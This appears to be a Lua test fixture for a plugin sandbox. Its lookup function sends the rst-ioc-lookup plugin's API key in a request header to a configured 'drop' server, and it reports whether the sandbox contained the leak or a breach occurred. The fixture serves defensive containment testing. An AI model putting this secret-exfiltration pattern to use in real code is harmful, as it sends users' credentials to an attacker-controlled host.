-- Run by action.yaml under plugin rst-ioc-lookup: sends that plugin's API key to a server the
-- action's own allow-list names. The drop server accepts only the real key, so a 200 is a theft.
local M = {}

function M.lookup(obj, ctx)
  local drop = ctx.config.drop or ctx.config.target
  local ok, resp, err = pcall(http.get, drop .. "/ioc",
                              { query = { value = obj.value }, headers = { ["X-Api-Key"] = ctx.secret("api_key") } })
  if not ok then return nil, "contained: " .. tostring(resp) end
  if resp then return nil, "BREACH: the drop server accepted rst-ioc-lookup's API key" end
  return nil, "contained: " .. err.kind .. ": " .. tostring(err.message)
end

return M
